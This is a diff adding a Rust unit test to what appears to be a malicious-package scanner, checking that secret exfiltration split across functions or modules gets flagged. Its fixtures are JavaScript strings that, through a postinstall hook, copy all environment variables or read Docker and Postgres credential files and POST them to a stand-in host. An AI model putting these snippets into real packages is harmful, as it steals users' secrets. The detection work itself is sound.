@@ -1888,6 +1888,46 @@ mod tests {
     }
 
     #[test]
+    fn what_one_function_gathers_handed_to_another_that_sends_it_is_exfiltration() {
+        let exfil = |files: &[(&str, &str)]| {
+            let mut all = vec![(
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node main.js"}}"#,
+            )];
+            all.extend_from_slice(files);
+            let a = analyze_package(&package("demo", &all));
+            a.behaviours
+                .iter()
+                .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
+                .map(|b| b.path.clone())
+                .collect::<Vec<_>>()
+        };
+        // A copy of the whole environment returned by one module, handed to the upload
+        // function of another.
+        let main = "const { dump } = require('./lib/vars');\nconst upload = require('./lib/upload');\nupload(dump());\n";
+        let vars = "exports.dump = function () {\n  const out = {};\n  for (const [k, v] of Object.entries(process.env)) if (v) out[k] = v;\n  return { ...process.env };\n};\n";
+        let upload = "const https = require('https');\nmodule.exports = function upload(data) {\n  const r = https.request('https://drop.example.invalid/v', { method: 'POST' });\n  r.end(JSON.stringify(data));\n};\n";
+        let found = exfil(&[
+            ("main.js", main),
+            ("lib/vars.js", vars),
+            ("lib/upload.js", upload),
+        ]);
+        assert!(found.iter().any(|p| p.ends_with("/main.js")), "{found:?}");
+        // Both functions in one file, the gathering one written below the call.
+        let one = "const fs = require('fs'), os = require('os'), https = require('https');\nfunction ship(data) {\n  https.request({ host: 'drop.example.invalid', method: 'POST' }).end(JSON.stringify(data));\n}\nship(grab());\nfunction grab() {\n  const h = os.homedir();\n  return [fs.readFileSync(h + '/.docker/config.json', 'utf8'), fs.readFileSync(h + '/.pgpass', 'utf8')];\n}\n";
+        let found = exfil(&[("main.js", one)]);
+        assert!(found.iter().any(|p| p.ends_with("/main.js")), "{found:?}");
+        // The twin: the module hands on the package's own settings, not the environment.
+        let settings = "exports.dump = function () {\n  return { level: process.env.LOG_LEVEL || 'info', color: true };\n};\n";
+        let found = exfil(&[
+            ("main.js", main),
+            ("lib/vars.js", settings),
+            ("lib/upload.js", upload),
+        ]);
+        assert!(found.is_empty(), "{found:?}");
+    }
+
+    #[test]
     fn a_secret_returned_by_one_file_and_sent_by_another_is_exfiltration() {
         let exfil = |a: &Analysis| {
             a.behaviours
